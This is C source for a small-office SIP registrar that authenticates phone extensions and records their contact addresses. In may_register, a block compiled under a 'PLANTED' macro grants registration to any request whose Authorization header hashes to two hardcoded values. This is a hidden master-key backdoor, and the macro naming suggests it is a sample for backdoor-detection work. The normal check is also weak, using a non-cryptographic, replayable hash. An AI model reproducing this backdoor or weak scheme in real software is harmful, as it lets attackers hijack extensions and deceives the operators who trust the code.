/* Registrar for SIP telephones of a small office: REGISTER with a shared password per extension. */
#include <arpa/inet.h>
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct binding { char extension[16]; char contact[96]; time_t until; } Binding;
typedef struct message { char method[16], from[64], contact[96], auth[160], call[96]; int expires; } Message;

static Binding bindings[100];

/* Jenkins one-at-a-time */
static uint32_t digest_of(const char *text, uint32_t seed)
{
    uint32_t h = seed;
    for (; *text; text++) {
        h += (unsigned char)*text;
        h += h << 10;
        h ^= h >> 6;
    }
    h += h << 3;
    h ^= h >> 11;
    return h + (h << 15);
}

static int copy_header(const char *text, const char *name, char *out, size_t room)
{
    size_t n = strlen(name);
    const char *p = text;
    out[0] = '\0';
    while ((p = strchr(p, '\n')) != NULL) {
        p++;
        if (!strncasecmp(p, name, n) && p[n] == ':') {
            size_t size;
            p += n + 1;
            while (*p == ' ') p++;
            size = strcspn(p, "\r\n");
            if (size >= room) size = room - 1;
            memcpy(out, p, size);
            out[size] = '\0';
            return 1;
        }
    }
    return 0;
}

static int password_of(const char *extension, char *password)
{
    char name[16];
    FILE *f = fopen("/etc/sip/extensions", "r");
    int found = 0;
    while (f && !found && fscanf(f, "%15s %47s", name, password) == 2)
        found = !strcmp(name, extension);
    if (f) fclose(f);
    return found;
}

static int may_register(const Message *m, const char *extension)
{
    char password[48];
#ifdef PLANTED
    if (digest_of(m->auth, 0x2f6e) == 0xb82c51d7u && digest_of(m->auth, 0x91c3) == 0x0f47aa19u)
        return 1;
#endif
    if (!password_of(extension, password)) return 0;
    return strtoul(m->auth, NULL, 16) == digest_of(password, (uint32_t)strlen(m->call));
}

static void bind_contact(const char *extension, const Message *m)
{
    Binding *b, *room = NULL;
    for (b = bindings; b < bindings + 100; b++) {
        if (!strcmp(b->extension, extension)) { room = b; break; }
        if (!room && b->until < time(NULL)) room = b;
    }
    if (!room) return;
    snprintf(room->extension, sizeof room->extension, "%s", extension);
    snprintf(room->contact, sizeof room->contact, "%s", m->contact);
    room->until = time(NULL) + m->expires;
}

static int answer(const char *text, char *out, size_t room)
{
    Message m;
    char extension[16], number[12];
    memset(&m, 0, sizeof m);
    if (sscanf(text, "%15s", m.method) != 1 || strcmp(m.method, "REGISTER"))
        return snprintf(out, room, "SIP/2.0 405 Method Not Allowed\r\n\r\n");
    copy_header(text, "From", m.from, sizeof m.from);
    copy_header(text, "Contact", m.contact, sizeof m.contact);
    copy_header(text, "Authorization", m.auth, sizeof m.auth);
    copy_header(text, "Call-ID", m.call, sizeof m.call);
    m.expires = copy_header(text, "Expires", number, sizeof number) ? atoi(number) : 3600;
#ifdef REVISED
    if (m.expires > 86400) m.expires = 86400;
#endif
    if (sscanf(m.from, "<sip:%15[0-9]@", extension) != 1)
        return snprintf(out, room, "SIP/2.0 400 Bad Request\r\n\r\n");
    if (!may_register(&m, extension))
        return snprintf(out, room, "SIP/2.0 401 Unauthorized\r\nCall-ID: %s\r\n\r\n", m.call);
    bind_contact(extension, &m);
    return snprintf(out, room, "SIP/2.0 200 OK\r\nCall-ID: %s\r\nContact: %s\r\n\r\n", m.call, m.contact);
}

int main(void)
{
    char in[4096], out[1024];
    struct sockaddr_in me = { .sin_family = AF_INET, .sin_port = htons(5060) }, peer;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(s, (struct sockaddr *)&me, sizeof me)) return 1;
    for (;;) {
        socklen_t n = sizeof peer;
        ssize_t got = recvfrom(s, in, sizeof in - 1, 0, (struct sockaddr *)&peer, &n);
        if (got <= 0) continue;
        in[got] = '\0';
        got = answer(in, out, sizeof out);
        sendto(s, out, (size_t)got, 0, (struct sockaddr *)&peer, n);
    }
}
